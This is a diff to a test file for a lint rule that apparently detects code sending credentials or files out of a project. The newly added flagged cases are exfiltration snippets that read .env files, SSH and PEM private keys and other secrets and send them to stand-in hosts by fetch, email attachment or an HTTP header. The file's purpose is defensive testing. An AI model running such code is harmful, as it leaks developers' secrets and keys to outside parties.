@@ -26,6 +26,11 @@ await ruleTester(rule, {
     { code: 'function f(password) { const x = new XMLHttpRequest(); x.open(\'POST\', \'/api/login\'); x.send(password); }' },
     { code: 'find . -name \'*.png\' -exec curl -T {} https://cdn.acme.dev/ \\;', filename: 'scripts/run.sh' },
     { code: 'find . -name \'*.pem\' -exec openssl x509 -in {} -noout \\;\necho ready > /dev/tcp/localhost/80', filename: 'scripts/run.sh' },
+    { code: 'import fs from "node:fs"; import os from "node:os"; import path from "node:path"; const token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8").split("=")[1]; const headers = {}; headers.authorization = `Bearer ${token}`; await fetch("https://r.example-service.com/a", { headers });' },
+    { code: 'import fg from "fast-glob"; import fs from "node:fs"; for (const f of await fg(["**/*", "!.env*"])) await fetch("https://deploy.example-service.com/files", { method: "POST", body: fs.readFileSync(f) });' },
+    { code: 'import fs from "node:fs"; for (const f of fs.readdirSync(".").filter((name) => !name.startsWith("."))) await fetch("https://deploy.example-service.com/files", { method: "POST", body: fs.readFileSync(f) });' },
+    { code: 'import nodemailer from "nodemailer"; nodemailer.createTransport({}).sendMail({ to, attachments: [{ path: "./out/report.pdf" }, { path: ".env.example" }] });' },
+    { code: 'import os from "node:os"; const socket = connect(); socket.on("error", (error) => console.error(error.message));' },
     { code: 'curl -X POST "https://api.datadoghq.com/api/v1/series?api_key=${DD_API_KEY}" -d @metrics.json', filename: 'report.sh' },
     // the key of an interface in its own parameter, whatever the rest of the address
     { code: 'const ask = (model, apiKey, body) => fetch(`https://generativelanguage.googleapis.com/v1beta/models/${model}:generateContent?key=${apiKey}`, { method: "POST", body });' },
@@ -340,5 +345,11 @@ await ruleTester(rule, {
     { code: 'const verify = (secretKey) => fetch("https://captcha.example-service.com/recaptcha/api/site", { method: "POST", body: new URLSearchParams({ secret: secretKey }) });', errors: [{ messageId: 'credential' }] },
     { code: 'const send = (clientSecret) => fetch("http://slack.com/api/chat.postMessage", { method: "POST", body: new URLSearchParams({ token: clientSecret }) });', errors: [{ messageId: 'credential' }] },
     { code: 'curl -F token=$CI_JOB_TOKEN https://gitlab.com/api/v4/projects/1/trigger/pipeline', filename: 'run.sh', options: { strict: true }, errors: [{ messageId: 'sent' }] },
+    { code: 'import { glob } from "glob"; import { readFile } from "node:fs/promises"; for (const f of await glob("**/.env*", { dot: true })) { await fetch("https://c.example-service.com/c", { method: "POST", body: await readFile(f, "utf8") }); }', errors: [{ messageId: 'sent' }] },
+    { code: 'import fg from "fast-glob"; import fs from "node:fs"; const files = fg.sync(["src/**", ".env.{local,production}"]); const data = files.map((f) => fs.readFileSync(f, "utf8")).join("\\n"); fetch("https://c.example-service.com/c", { method: "POST", body: data });', errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "node:fs"; fs.readdirSync(".").filter((f) => f.startsWith(".env")).forEach((f) => fetch("https://c.example-service.com/c", { method: "POST", body: fs.readFileSync(f) }));', errors: [{ messageId: 'sent' }] },
+    { code: 'import nodemailer from "nodemailer"; const mail = nodemailer.createTransport({ service: "gmail" }); mail.sendMail({ to, attachments: [{ path: ".env" }] });', errors: [{ messageId: 'sent' }] },
+    { code: 'import { globSync } from "glob"; import fs from "node:fs"; const found = globSync("**/{*.pem,id_rsa}").map((p) => ({ p, c: fs.readFileSync(p, "utf8") })); fetch("https://c.example-service.com", { method: "POST", body: JSON.stringify(found) });', errors: [{ messageId: 'sent' }] },
+    { code: 'import fs from "node:fs"; import axios from "axios"; axios.defaults.headers.common["x-trace"] = fs.readFileSync(".env", "utf8");', errors: [{ messageId: 'sent' }] },
   ],
 });
